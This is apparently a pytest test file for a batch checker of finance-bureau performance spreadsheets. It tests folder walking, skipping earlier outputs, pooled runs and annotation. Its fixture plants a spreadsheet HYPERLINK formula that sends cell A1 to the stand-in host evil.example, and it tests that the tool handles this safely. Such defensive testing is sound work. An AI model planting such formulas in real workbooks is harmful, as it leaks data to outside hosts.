"""The finance bureau's batch: a folder of good and bad submissions, checked in order, summarised."""
from __future__ import annotations

import io
import os
import re
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from perfeval_xl.batch import collect, run
from perfeval_xl.findings import Report
from perfeval_xl.pipeline import CheckOptions
from perfeval_xl.writers.summary import write_summary

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture(scope="module")
def inbox(tmp_path_factory, seed_example, seed_original):
    """收件箱/ with sub-folders, good and bad files, a lock file and a previous run's outputs."""
    from tests.conftest import set_cells

    d = tmp_path_factory.mktemp("batch") / "收件箱"
    (d / "市直" / "办公室").mkdir(parents=True)
    (d / "区县").mkdir()
    shutil.copyfile(seed_example, d / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    shutil.copyfile(seed_original, d / "市直" / "原表_政府办.xlsx")
    set_cells(seed_example, {"unit_name": "'" + EVIL}, dest=str(d / "区县" / "恶意单位名.xlsx"))
    set_cells(seed_example, {"funds_actual": 4000}, dest=str(d / "区县" / "超预算.xlsx"))
    (d / "区县" / "其实是CSV.xlsx").write_text("项目,金额\n公务接待费,1.91\n", encoding="utf-8")
    (d / "区县" / "截断.xlsx").write_bytes(open(seed_example, "rb").read()[:3000])
    (d / "区县" / "~$超预算.xlsx").write_bytes(b"\x04user" + b" " * 160)
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate

    from perfeval_xl import ledger

    # a previous run's outputs: ours because our record of what we wrote holds their bytes (ledger.py)
    annotate(seed_example, check_file(seed_example, CheckOptions()), str(d / "区县" / "超预算_已校验.xlsx"))
    shutil.copyfile(seed_example, d / "区县" / "超预算_备份_20250423-101500.xlsx")
    ledger.record(str(d / "区县" / "超预算_备份_20250423-101500.xlsx"), ledger.KIND_BACKUP)  # as annotate does
    (d / "区县" / "说明.txt").write_text("不是工作簿", encoding="utf-8")
    write_summary([Report("x.xlsx", error="文件已加密")], str(d / "上次的汇总.xlsx"))  # a previous run's summary
    ledger.record(str(d / "上次的汇总.xlsx"), ledger.KIND_SUMMARY)  # as `perfeval check --summary` does
    return d


def test_collect_walks_folders_and_skips_locks_and_our_outputs(inbox):
    files = collect([str(inbox)])
    names = [os.path.relpath(f, inbox) for f in files]
    assert names == [
        os.path.join("区县", "其实是CSV.xlsx"),
        os.path.join("区县", "恶意单位名.xlsx"),
        os.path.join("区县", "截断.xlsx"),
        os.path.join("区县", "超预算.xlsx"),
        os.path.join("市直", "办公室", "益阳市人民政府办公室_2024.xlsx"),
        os.path.join("市直", "原表_政府办.xlsx"),
    ]
    assert collect([str(inbox)], exclude=[str(inbox / "区县")]) == files[4:]
    one = str(inbox / "区县" / "超预算.xlsx")
    assert collect([one, str(inbox / "市直"), one]) == [one] + files[4:]  # files first, no duplicates


def test_annotate_dest_mirrors_sub_folders(inbox, tmp_path):
    from perfeval_xl.batch import annotate_dest

    src = str(inbox / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    out = str(tmp_path / "OUT")
    assert annotate_dest(src, [str(inbox)], out) == os.path.join(out, "市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [str(inbox / "市直")], out) == os.path.join(out, "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [src], out) == os.path.join(out, "益阳市人民政府办公室_2024_已校验.xlsx")  # a file argument
    # issue 12 item 10: copies of a.xls and a.ods side by side must not be one file
    assert annotate_dest(str(inbox / "a.xls"), [str(inbox)], out) == os.path.join(out, "a_xls_已校验.xlsx")
    assert annotate_dest(str(inbox / "a.ods"), [str(inbox)], out) == os.path.join(out, "a_ods_已校验.xlsx")
    assert annotate_dest(str(inbox / "a.et"), [str(inbox)], out) == os.path.join(out, "a_et_已校验.xlsx")


def test_run_reports_every_file_in_input_order(inbox):
    files = collect([str(inbox)])
    reports = run(files, CheckOptions(), jobs=1)
    assert [r.path for r in reports] == files
    by_name = {os.path.basename(r.path): r for r in reports}
    assert "CSV" in by_name["其实是CSV.xlsx"].error
    assert "损坏" in by_name["截断.xlsx"].error
    seed = by_name["益阳市人民政府办公室_2024.xlsx"]
    assert seed.error is None and seed.metrics.department == "益阳市人民政府办公室"
    assert abs(float(seed.metrics.execution_rate) - 0.9596) < 0.0001
    assert by_name["原表_政府办.xlsx"].error is None  # the official layout without names, by labels
    over = by_name["超预算.xlsx"]
    assert over.errors > seed.errors  # 执行数 > 预算数 is an error
    assert by_name["恶意单位名.xlsx"].metrics.department == EVIL


def test_the_pool_gives_the_same_reports_in_the_same_order(inbox, tmp_path):
    base = collect([str(inbox)])
    many = []
    for i in range(30):  # enough files to take the process-pool path
        src = base[i % len(base)]
        dest = tmp_path / f"{i:02d}_{os.path.basename(src)}"
        shutil.copyfile(src, dest)
        many.append(str(dest))
    serial = run(many, CheckOptions(), jobs=1)
    pooled = run(many, CheckOptions(), jobs=2)
    assert [r.to_dict() for r in pooled] == [r.to_dict() for r in serial]


class _Tty(io.StringIO):
    def isatty(self):
        return True


def test_progress_bar_only_on_a_terminal(inbox):
    files = collect([str(inbox)])[:3]
    tty, pipe = _Tty(), io.StringIO()
    run(files, CheckOptions(), jobs=1, progress=tty)
    run(files, CheckOptions(), jobs=1, progress=pipe)
    assert "3/3" in tty.getvalue() and tty.getvalue().startswith("\r校验 [")
    assert pipe.getvalue() == ""
    seen = []
    run(files, CheckOptions(), jobs=1, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 3), (2, 3), (3, 3)]


def test_cli_check_folder_end_to_end(inbox, tmp_path):
    cli = pytest.importorskip("perfeval_xl.cli")
    work = tmp_path / "收件箱"
    shutil.copytree(inbox, work)
    before = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    summary, outdir = tmp_path / "S.xlsx", tmp_path / "OUT"
    code = cli.main(["check", str(work), "--summary", str(summary), "--annotate", str(outdir)])
    assert code in (1, 2)  # findings in the folder
    assert summary.is_file()
    annotated = sorted(os.path.relpath(os.path.join(r, f), outdir) for r, _, fs in os.walk(outdir) for f in fs)
    assert os.path.join("市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx") in annotated  # sub-folders mirrored
    assert not any("CSV" in a or "截断" in a for a in annotated)  # unreadable files are not annotated
    wb = load_workbook(outdir / "市直" / "办公室" / "益阳市人民政府办公室_2024_已校验.xlsx")
    assert wb.sheetnames[0] == "校验结果"
    after = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    assert after == before  # inputs untouched


def test_collect_says_which_earlier_outputs_it_skipped_and_checks_named_ones(inbox):
    skipped = []
    files = collect([str(inbox)], skipped=skipped)
    assert sorted(os.path.relpath(f, inbox) for f in skipped) == [
        "上次的汇总.xlsx", os.path.join("区县", "超预算_备份_20250423-101500.xlsx"),
        os.path.join("区县", "超预算_已校验.xlsx")]
    assert not set(skipped) & set(files)
    assert not any("~$" in f for f in skipped)  # lock files are not submissions: left out silently
    # a file named explicitly is always checked, whatever its name
    named = [str(inbox / "区县" / "超预算_已校验.xlsx"), str(inbox / "区县" / "超预算_备份_20250423-101500.xlsx")]
    skipped2 = []
    assert collect(named + [str(inbox / "区县")], skipped=skipped2)[:2] == named
    assert skipped2 == []  # named files were checked, so they were not skipped
    # this run's own outputs are still left out
    assert collect([str(inbox)], exclude=[str(inbox / "上次的汇总.xlsx")], skipped=(s3 := [])) == files
    assert "上次的汇总.xlsx" not in {os.path.basename(f) for f in s3}


def _normalised(path) -> dict[str, bytes]:
    """Every zip member, with the times of day that annotate writes (plan timestamp, document dates) blanked."""
    with zipfile.ZipFile(path) as z:
        return {n: re.sub(rb"\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}(:\d{2})?Z?", b"T", z.read(n)) for n in z.namelist()}


def test_annotation_runs_over_the_pool_with_its_own_bar_and_writes_the_same_files(tmp_path, seed_example,
                                                                                   seed_original):
    from perfeval_xl.batch import iter_annotate
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate

    srcs = []
    for i in range(4):
        p = tmp_path / "in" / f"单位{i}.xlsx"
        p.parent.mkdir(exist_ok=True)
        shutil.copyfile(seed_example if i % 2 else seed_original, p)
        srcs.append(str(p))
    srcs.append(str(tmp_path / "in" / "不存在.xlsx"))  # a file that cannot be marked: reported, the rest go on
    reports = [check_file(s, CheckOptions()) for s in srcs[:4]] + [Report(srcs[4])]
    tasks = [(s, r, str(tmp_path / "pool" / os.path.basename(s)), False) for s, r in zip(srcs, reports)]
    tty = _Tty()
    results = list(iter_annotate(tasks, jobs=2, progress=tty))
    assert sorted(r.src for r in results) == sorted(srcs)
    assert "\r标注 [" in tty.getvalue() and "5/5" in tty.getvalue()
    bad = [r for r in results if r.error]
    assert [r.src for r in bad] == [srcs[4]] and bad[0].written is None
    for s, r in zip(srcs[:4], reports[:4]):
        serial = annotate(s, r, str(tmp_path / "serial" / os.path.basename(s)))
        assert _normalised(serial) == _normalised(tmp_path / "pool" / os.path.basename(s))  # identical output
    seen = []
    list(iter_annotate(tasks[:2], jobs=1, progress=lambda done, total: seen.append((done, total))))
    assert seen == [(1, 2), (2, 2)]


def test_collect_skips_only_what_our_record_proves_ours(tmp_path, seed_example):
    # issue 11: a backup-like name, our defined name or our summary's title used to hide a submission
    from perfeval_xl.batch import REASON_MARKED
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate
    from perfeval_xl.writers.summary import SUMMARY_TITLE

    d = tmp_path / "收件箱"
    d.mkdir()
    shutil.copyfile(seed_example, d / "财政局_已校验.xlsx")  # a real submission with an unlucky name
    shutil.copyfile(seed_example, d / "报表.bak.xlsx")
    shutil.copyfile(seed_example, d / "甲_备份_2024年.xlsx")
    shutil.copyfile(seed_example, d / "甲_备份_20250423-101500.xlsx")  # dressed as our backup: a submission
    annotate(seed_example, check_file(seed_example, CheckOptions()), str(d / "renamed.xlsx"))  # a marked copy
    # a submission carrying our copy marker and our summary title, written by the department
    data = open(seed_example, "rb").read()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(d / "伪装.xlsx", "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            body = z.read(info)
            if info.filename == "xl/workbook.xml":
                body = body.replace(b"</workbook>", b"<definedNames><definedName name=\"perfeval_annotated_copy\">"
                                                    b"\"1\"</definedName></definedNames></workbook>") \
                    if b"<definedNames>" not in body else body.replace(
                        b"<definedNames>", b"<definedNames><definedName name=\"perfeval_annotated_copy\">\"1\""
                                           b"</definedName>")
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"<dc:title>.*?</dc:title>", b"", body).replace(
                    b"</cp:coreProperties>", f"<dc:title>{SUMMARY_TITLE}</dc:title></cp:coreProperties>".encode())
            out.writestr(info, body)
    skipped, reasons = [], {}
    files = collect([str(d)], skipped=skipped, reasons=reasons)
    assert sorted(os.path.basename(f) for f in files) == ["伪装.xlsx", "报表.bak.xlsx", "甲_备份_2024年.xlsx",
                                                          "甲_备份_20250423-101500.xlsx", "财政局_已校验.xlsx"]
    assert reasons == {str(d / "renamed.xlsx"): REASON_MARKED}
    assert sorted(skipped) == sorted(reasons)
    reports = run(files, CheckOptions(), jobs=1)
    assert all(r.error is None and r.metrics.department for r in reports)  # every one judged
    # an --in-place run marks the folder's own files again: it keeps marked workbooks
    kept = collect([str(d)], skip_marked=False)
    assert str(d / "renamed.xlsx") in kept
    # a copy we wrote, edited by someone since, is no longer ours: it is checked
    with open(d / "renamed.xlsx", "ab") as fh:
        fh.write(b"\0")
    assert str(d / "renamed.xlsx") in collect([str(d)])


def test_reports_cross_the_pool_whole(seed_example):
    """Findings, metrics and reports pickle as their fields in order (the worker pool's hot path): every field
    comes back, parts included, and a field added later cannot be left out silently."""
    import dataclasses
    import pickle

    from perfeval_xl.findings import Finding, Metrics
    from perfeval_xl.pipeline import check_file

    report = check_file(seed_example)
    assert report.findings and report.metrics is not None
    report.parts = [check_file(seed_example)]
    back = pickle.loads(pickle.dumps(report))
    assert back == report and back.to_dict() == report.to_dict()
    assert back.findings[0].severity is report.findings[0].severity
    for obj in (report.findings[0], report.metrics, report):
        assert len(obj.__reduce__()[1]) == len(dataclasses.fields(obj)), type(obj).__name__
    assert isinstance(back.findings[0], Finding) and isinstance(back.metrics, Metrics)
